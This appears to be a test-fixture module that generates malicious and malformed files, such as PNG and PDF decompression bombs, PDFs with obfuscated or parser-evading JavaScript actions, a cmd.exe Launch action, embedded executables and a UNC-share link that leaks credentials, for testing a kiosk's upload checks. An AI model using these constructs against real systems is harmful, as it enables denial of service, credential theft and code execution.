/**
 * Bad (and awkward but good) files, made on the fly: what a citizen's USB stick, a phone or an attacker
 * can hand the kiosk. Pictures come from sharp (libvips), PNG headers are written by hand where a real
 * encoder would refuse to make them, PDFs from pdf-lib's low-level API.
 */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

/** A PNG chunk with its real CRC, so a decoder reaches the data instead of stopping at a bad checksum. */
function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0);
  return Buffer.concat([head, data, crc]);
}

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A valid PNG of `width` × `height` whose every pixel is palette entry 0: a few kilobytes that decode to
 * width × height × 3 bytes (a "palette bomb"). `bitDepth` 1 packs 8 pixels a byte, so the file stays tiny.
 */
export function palettePng(width: number, height: number, bitDepth: 1 | 8 = 1): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = 3; // palette
  const plte = Buffer.from([0xff, 0xff, 0xff, 0x00, 0x00, 0x00]);
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8); // filter byte + packed pixels
  const raw = Buffer.alloc(rowBytes * height); // all zero: filter "none", index 0
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', ihdr),
    chunk('PLTE', plte),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PNG whose header claims `width` × `height` but carries almost no data (a header-only bomb). */
export function claimedPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2; // RGB
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A picture with some detail (a plain colour would compress to nothing and test little). */
async function photo(width: number, height: number): Promise<sharp.Sharp> {
  const noise = await sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .png()
    .toBuffer();
  return sharp(noise);
}

export const jpeg = async (width = 640, height = 480) =>
  (await photo(width, height)).jpeg({ quality: 80 }).toBuffer();
export const png = async (width = 320, height = 240) => (await photo(width, height)).png().toBuffer();
export const progressiveJpeg = async () => (await photo(640, 480)).jpeg({ progressive: true }).toBuffer();
export const cmykJpeg = async () => (await photo(400, 300)).toColourspace('cmyk').jpeg().toBuffer();
export const png16 = async () => (await photo(320, 240)).toColourspace('rgb16').png().toBuffer();

/**
 * A phone photo taken with the phone turned: stored 400 × 300 with its left half red and right half
 * blue, and EXIF orientation 6 ("turn 90° clockwise to show"). Shown upright it is 300 × 400 with red
 * on top and blue below.
 */
export async function rotatedPhoneJpeg(): Promise<Buffer> {
  const half = (r: number, b: number) => ({
    input: { create: { width: 200, height: 300, channels: 3 as const, background: { r, g: 0, b } } },
  });
  return sharp({ create: { width: 400, height: 300, channels: 3, background: '#000000' } })
    .composite([
      { ...half(255, 0), left: 0, top: 0 },
      { ...half(0, 255), left: 200, top: 0 },
    ])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** Flips one bit in every `every` bytes after the first `skip` (the header left readable). */
export function bitFlipped(bytes: Buffer, skip = 64, every = 97): Buffer {
  const out = Buffer.from(bytes);
  for (let i = skip; i < out.length; i += every) out[i] = (out[i] ?? 0) ^ 0x10;
  return out;
}

async function onePage(build?: (doc: PDFDocument) => void, objectStreams = true): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText('Giay to', { x: 50, y: 780, size: 18 });
  build?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

export const plainPdf = () => onePage();

/** Opens with a JavaScript action (in an object stream, where a plain text search would miss it). */
export const javascriptPdf = () =>
  onePage((doc) => {
    const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("x")') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });

/**
 * The same action with its names escaped as obfuscated malware writes them: `/#4aS` for /JS and
 * `/#4aava#53cript` for /JavaScript (lower-case hex, which pdf-lib itself leaves undecoded).
 */
export async function obfuscatedJavascriptPdf(): Promise<Buffer> {
  const text = (
    await onePage((doc) => {
      const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("x")') });
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
    }, false)
  ).toString('latin1');
  // pdf-lib reads objects in order and does not need the cross-reference offsets this shifts.
  const escaped = text.replace('/JS (', '/#4aS (').replace('/S /JavaScript', '/S /#4aava#53cript');
  if (escaped === text || escaped.includes('/JavaScript')) throw new Error('corpus: nothing was escaped');
  return Buffer.from(escaped, 'latin1');
}

export const launchPdf = () =>
  onePage((doc) => {
    const action = doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });

export const embeddedFilePdf = () =>
  onePage((doc) => {
    const file = doc.context.flateStream('MZ not really a program', { Type: 'EmbeddedFile' });
    const spec = doc.context.obj({
      Type: 'Filespec',
      F: PDFString.of('hoso.exe'),
      EF: { F: doc.context.register(file) },
    });
    const names = doc.context.obj({ EmbeddedFiles: { Names: [PDFString.of('hoso.exe'), spec] } });
    doc.catalog.set(PDFName.of('Names'), doc.context.register(names));
  });

/** A document whose trailer names an /Encrypt dictionary (a password-protected PDF). */
export const encryptedPdf = () =>
  onePage((doc) => {
    const encrypt = doc.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 });
    doc.context.trailerInfo.Encrypt = doc.context.register(encrypt);
  }, false);

/** "%PDF-" and then nothing a PDF reader can use. */
export const malformedPdf = () =>
  Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\nxref\ngarbage');

// ── PDFs written by hand, where a reader (Acrobat, pdf.js, poppler: through the cross-reference table)
// and pdf-lib (front to back) would see different objects. Offsets are computed, so readers open them.

type Chunk = [number, string] | [null, string];

/** `%PDF-1.7`, the objects in order, an xref naming each object's offset (or `offsets`' override). */
function handWritten(chunks: Chunk[], edit?: (file: string, offsets: Map<number, number>) => string): Buffer {
  let file = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = new Map<number, number>();
  for (const [num, body] of chunks) {
    if (num === null) {
      file += body;
      continue;
    }
    offsets.set(num, file.length);
    file += `${num} 0 obj\n${body}\nendobj\n`;
  }
  if (edit) file = edit(file, offsets);
  const size = Math.max(...offsets.keys()) + 1;
  const xref = file.length;
  file += `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let i = 1; i < size; i++) {
    const at = offsets.get(i);
    file += at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`;
  }
  file += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

const TEXT = 'BT /F1 24 Tf 72 700 Td (Giay to cong dan) Tj ET';
function page(catalogExtra = '', pageExtra = ''): Chunk[] {
  return [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [
      3,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> ${pageExtra}>>`,
    ],
    [4, `<< /Length ${TEXT.length} >>\nstream\n${TEXT}\nendstream`],
    [6, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
  ];
}
const LINK: Chunk = [8, '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A 5 0 R >>'];
const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\)) >>';

/** Object 5 (JavaScript) as readers see it; a clean object 5 later in the file, as pdf-lib keeps it. */
export const duplicateObjectPdf = () =>
  handWritten([...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '), LINK, [5, JS_ACTION]], (file, offsets) => {
    const first = offsets.get(5)!;
    const out = `${file}5 0 obj\n<< /Type /Action /S /Named /N /FirstPage >>\nendobj\n`;
    offsets.set(5, first);
    return out;
  });

/** A JavaScript action pdf-lib cannot parse (a number where a key belongs); readers skip the bad key. */
export const invalidObjectPdf = () =>
  handWritten([
    ...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '),
    LINK,
    [5, '<< 0 /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\)) >>'],
  ]);

/** The JavaScript object written inside another stream's data; the xref points into it. */
export const objectInStreamPdf = () => {
  const hidden = `% padding\n5 0 obj\n${JS_ACTION}\nendobj\n`;
  return handWritten(
    [
      ...page('/OpenAction 5 0 R ', '/Annots [8 0 R] '),
      LINK,
      [7, `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`],
    ],
    (file, offsets) => {
      offsets.set(5, file.indexOf('5 0 obj\n<< /Type /Action'));
      return file;
    },
  );
};

/** A launch action whose `/S` is a reference to the name /Launch. */
export const indirectLaunchPdf = () =>
  handWritten([
    ...page('/OpenAction 5 0 R '),
    [5, '<< /S 12 0 R /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>'],
    [12, '/Launch'],
  ]);

/** A file attachment annotation whose embedded stream does not say /Type /EmbeddedFile. */
export const fileAttachmentPdf = () =>
  handWritten([
    ...page('', '/Annots [8 0 R] '),
    [
      8,
      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS << /Type /Filespec /F (huongdan.exe) /EF << /F 9 0 R >> >> >>',
    ],
    [9, '<< /Length 12 >>\nstream\nMZ a program\nendstream'],
  ]);

/** Opens a file on a Windows share when the PDF opens (a staff PC would send its credentials). */
export const remoteGoToPdf = () =>
  handWritten([
    ...page('/OpenAction 5 0 R '),
    [5, '<< /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
  ]);

/** A page tree of `depth` nodes, each listing the next twice: 2^depth pages from a few objects. */
export const pageTreeBombPdf = (depth = 40) => {
  const chunks: Chunk[] = [
    [1, '<< /Type /Catalog /Pages 10 0 R >>'],
    [4, '<< /Length 0 >>\nstream\n\nendstream'],
  ];
  for (let i = 0; i < depth; i++)
    chunks.push([10 + i, `<< /Type /Pages /Kids [${11 + i} 0 R ${11 + i} 0 R] /Count 2 >>`]);
  chunks.push([10 + depth, '<< /Type /Page /MediaBox [0 0 595 842] /Contents 4 0 R >>']);
  return handWritten(chunks);
};

/**
 * An object stream that inflates to `decodedMegabytes` of zeros (about 1,000 times its compressed size):
 * pdf-lib inflates it whole while loading. Compressed chunk by chunk, so the test holds only the result.
 */
export async function objectStreamBombPdf(decodedMegabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const zeros = Buffer.alloc(1024 * 1024);
  deflate.write('5 0 ');
  for (let i = 0; i < decodedMegabytes; i++)
    if (!deflate.write(zeros)) await new Promise((resolve) => deflate.once('drain', resolve));
  deflate.end('null');
  await done;
  const data = Buffer.concat(parts).toString('latin1');
  return handWritten([
    ...page(),
    [
      7,
      `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`,
    ],
  ]);
}
